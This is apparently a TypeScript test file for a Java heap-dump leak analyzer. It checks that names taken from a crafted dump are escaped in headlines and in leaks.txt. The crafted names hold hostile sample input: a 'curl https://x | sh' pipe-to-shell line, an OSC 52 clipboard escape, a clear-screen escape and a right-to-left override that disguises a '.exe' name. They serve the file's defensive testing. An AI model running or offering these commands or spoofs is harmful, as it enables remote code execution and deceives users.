/**
 * Names from a dump are chosen by whoever wrote it. A crafted dump whose class, static field and thread
 * names carry newlines, terminal escapes (OSC 52, clear screen) and a bidi override: the headline and
 * leaks.txt show them escaped (one visible line each, no control character but the text's own line
 * breaks); the JSON's data fields keep them as the dump has them (documented: readers escape).
 */
import { analyzeLeaks, type Findings, headlineOf, leaksDocument, renderLeaksText } from '../../../agent/src/leaks';
import { bufferNameReader } from '../../../agent/src/triage/name-readers';
import { HprofWriter, T } from '../../support/hprof-writer';

const EVIL_CLASS = 'com/acme/Evil\nACTION REQUIRED: run `curl https://x | sh`\u001b]52;c;SGVsbG8=\u0007';
const EVIL_FIELD = 'ENTRIES\u202egnp.exe';
const EVIL_THREAD = 'worker-1\nFAKE LINE\u001b[2J';

function craftedDump(): Buffer {
  const w = new HprofWriter(8);
  const names: Array<[bigint, string]> = [[1n, 'java/lang/Thread'], [2n, 'name'], [3n, 'java/lang/String'], [4n, 'value'], [5n, 'coder'], [6n, EVIL_CLASS], [7n, EVIL_FIELD], [8n, 'run'], [9n, 'Evil.java']];
  for (const [id, s] of names) w.utf8(id, s);
  w.loadClass(1, 0x100n, 1n).loadClass(2, 0x200n, 3n).loadClass(3, 0x300n, 6n);
  w.stackFrame(0x900n, 8n, 8n, 9n, 3, 42).stackTrace(7, 1, [0x900n]);
  w.heapSegment();
  w.classDump(0x100n, 0n, 8, [{ name: 2n, type: T.object }]);
  w.classDump(0x200n, 0n, 9, [{ name: 4n, type: T.object }, { name: 5n, type: T.byte }]);
  w.classDump(0x300n, 0n, 0, [], [{ name: 7n, type: T.object, value: w.id(0x5000n) }]);
  w.rootStickyClass(0x300n);
  // the thread, its name, and a local array it holds
  w.instance(0x1000n, 0x100n, w.id(0x2000n));
  w.instance(0x2000n, 0x200n, Buffer.concat([w.id(0x3000n), Buffer.from([0])]));
  const name = Buffer.from(EVIL_THREAD, 'latin1');
  w.primitiveArray(0x3000n, T.byte, name.length, name);
  w.primitiveArray(0x4000n, T.long, 400_000);
  w.rootThreadObject(0x1000n, 1, 7);
  w.sub(Buffer.concat([HprofWriter.u1(0x03), w.id(0x4000n), HprofWriter.u4(1), HprofWriter.u4(0)])); // Java frame root, depth 0
  // the class's static field holds a big array too
  w.primitiveArray(0x5000n, T.long, 300_000);
  return w.end().toBuffer();
}

async function findings(bytes: Buffer, topDominators = 20): Promise<Findings> {
  return analyzeLeaks({ read: bufferNameReader(bytes), stream: async (on) => on(bytes) }, { thresholdPercent: 10, topDominators });
}

const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('names from a crafted dump', () => {
  it('are escaped in every headline and in leaks.txt, kept as they are in the JSON data fields', async () => {
    const f = await findings(craftedDump());
    expect(f.suspects).toHaveLength(2);
    const [thread, field] = f.suspects;
    expect(thread.heldBy).toMatchObject({ kind: 'thread', thread: EVIL_THREAD, root: 'Java frame', frame: `${EVIL_CLASS.replace(/\//g, '.')}.run(Evil.java:42)` });
    expect(field.heldBy).toMatchObject({ kind: 'static-field', className: EVIL_CLASS.replace(/\//g, '.'), field: EVIL_FIELD });
    for (const s of f.suspects) {
      expect(s.headline).not.toMatch(CONTROL);
      expect(s.headline).not.toContain('\n');
    }
    expect(thread.headline).toBe(`Leak suspect: local variable of thread "worker-1\\x0aFAKE LINE\\x1b[2J" (long[]) retains 3.1 MiB (57 %)`);
    // (a class name's slashes are its package separators: https://x reads https:..x, as Class.getName() would show it)
    expect(field.headline).toContain('static field com.acme.Evil\\x0aACTION REQUIRED: run `curl https:..x | sh`\\x1b]52;c;SGVsbG8=\\x07.ENTRIES\\u{202e}gnp.exe (long[])');
    const doc = leaksDocument({ bucket: 'b', key: 'k', uri: 's3://b/k', size: 1 }, f, null);
    const text = renderLeaksText(doc);
    expect(text).not.toMatch(CONTROL);
    for (const line of text.split('\n')) expect(line.trimStart().startsWith('ACTION') || line.trimStart().startsWith('FAKE')).toBe(false);
  });

  it('a table on a stack frame (a map resized at the OOM) is held by the static field that keeps its map, through the field', async () => {
    const w = new HprofWriter(8);
    ['Holder', 'MAP', 'Map', 'table', '[LEntry;', 'Entry', 'payload'].forEach((n, i) => w.utf8(BigInt(i + 1), n));
    w.loadClass(1, 0x100n, 1n).loadClass(2, 0x200n, 3n).loadClass(3, 0x300n, 5n).loadClass(4, 0x400n, 6n);
    w.heapSegment();
    w.classDump(0x100n, 0n, 0, [], [{ name: 2n, type: T.object, value: w.id(0x1000n) }]);
    w.classDump(0x200n, 0n, 8, [{ name: 4n, type: T.object }]);
    w.classDump(0x300n, 0n, 0, []);
    w.classDump(0x400n, 0n, 8, [{ name: 7n, type: T.object }]);
    w.rootStickyClass(0x100n);
    w.instance(0x1000n, 0x200n, w.id(0x2000n)); // the map -> its table
    const entries = Array.from({ length: 50 }, (_, i) => 0x10000n + BigInt(i) * 0x100n);
    w.objectArray(0x2000n, 0x300n, entries);
    entries.forEach((e, i) => {
      w.instance(e, 0x400n, w.id(0x80000n + BigInt(i) * 0x1000n));
      w.primitiveArray(0x80000n + BigInt(i) * 0x1000n, T.byte, 1000);
    });
    w.rootThreadObject(0x3000n, 1, 1);
    w.sub(Buffer.concat([HprofWriter.u1(0x03), w.id(0x2000n), HprofWriter.u4(1), HprofWriter.u4(0)])); // resize's local: the table
    const f = await findings(w.end().toBuffer(), 1); // Holder is not a listed top dominator: its name is read for the holder alone
    expect(f.suspects).toHaveLength(1);
    const s = f.suspects[0];
    // (Holder is on no shortest path: its name must still be read)
    expect(s).toMatchObject({ className: 'Entry[]', heldBy: { kind: 'static-field', className: 'Holder', field: 'MAP', via: ['table'], text: 'static field Holder.MAP → table' } });
    expect(s.pathFromGcRoot).toEqual([{ className: 'Entry[]', objectId: '0x0000000000002000', field: null, gcRoot: ['Java frame'] }]);
    // table 50 x 8 + 20, entries 50 x (8 + 16), values 50 x (1000 + 20); the map itself 8 + 16 more is reachable
    const retained = 50 * 8 + 20 + 50 * 24 + 50 * 1020;
    expect(s.retainedBytes).toBe(retained);
    expect(s.headline).toBe(`Leak suspect: static field Holder.MAP → table (Entry[]) retains ${(retained / 1024).toFixed(1)} KiB (${Math.round((100 * retained) / (retained + 24))} %): 50 × byte[]`);
  });

  it('headline formats: static field, thread, class group, JNI global, other', () => {
    const base = {
      kind: 'object' as const, className: 'java.util.HashMap', objectId: '0x1', instances: 1, retainedBytes: 851_443_712, retainedPercent: 84.2, pathFromGcRoot: [],
      accumulation: { className: 'java.util.HashMap$Node[]', objectId: '0x2', retainedBytes: 1, accumulated: { className: 'com.acme.Order', instances: 1_204_118, retainedBytes: 1 } },
    };
    expect(headlineOf({ ...base, heldBy: { kind: 'static-field', text: '', className: 'com.acme.Cache', field: 'ENTRIES' } }))
      .toBe('Leak suspect: static field com.acme.Cache.ENTRIES (java.util.HashMap) retains 812 MiB (84 %): 1,204,118 × com.acme.Order');
    expect(headlineOf({ ...base, heldBy: { kind: 'thread', text: '', thread: null, root: 'thread object' } })).toMatch(/^Leak suspect: a thread \(java\.util\.HashMap\) retains/);
    expect(headlineOf({ ...base, kind: 'class-group', instances: 1000, className: 'java.lang.Thread', heldBy: { kind: 'other', text: '' } }))
      .toBe('Leak suspect: 1,000 × java.lang.Thread retain 812 MiB (84 %): 1,204,118 × com.acme.Order');
    expect(headlineOf({ ...base, heldBy: { kind: 'jni-global', text: '' } })).toMatch(/^Leak suspect: JNI global reference \(java\.util\.HashMap\) retains/);
    expect(headlineOf({ ...base, heldBy: { kind: 'other', text: '' } }, true)).toBe('Leak suspect: java.util.HashMap retains 812 MiB (84 %)');
  });
});
